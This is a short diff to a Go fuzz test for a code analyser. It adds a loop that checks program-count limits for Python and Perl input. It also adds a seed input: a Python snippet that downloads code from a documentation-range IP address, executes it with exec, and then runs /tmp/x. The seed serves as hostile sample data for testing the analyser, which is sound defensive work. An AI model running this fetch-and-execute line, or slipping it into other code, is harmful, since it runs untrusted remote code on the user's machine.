@@ -593,7 +593,13 @@ func FuzzAnalyze(f *testing.F) {
 	} {
 		f.Add(s)
 	}
+	f.Add("import urllib.request as u, os\nexec(u.urlopen('http://203.0.113.77/x').read())\nos.system(\"/tmp/x\")\n")
 	f.Fuzz(func(t *testing.T, s string) {
+		for _, interpreter := range []string{"python", "perl"} {
+			if f := AnalyzeCode(s, interpreter); len(f.Programs) > maxListed {
+				t.Fatal("too many")
+			}
+		}
 		facts := Analyze(s)
 		if len(facts.Programs) > maxListed || len(facts.URLs) > maxListed {
 			t.Fatal("too many")
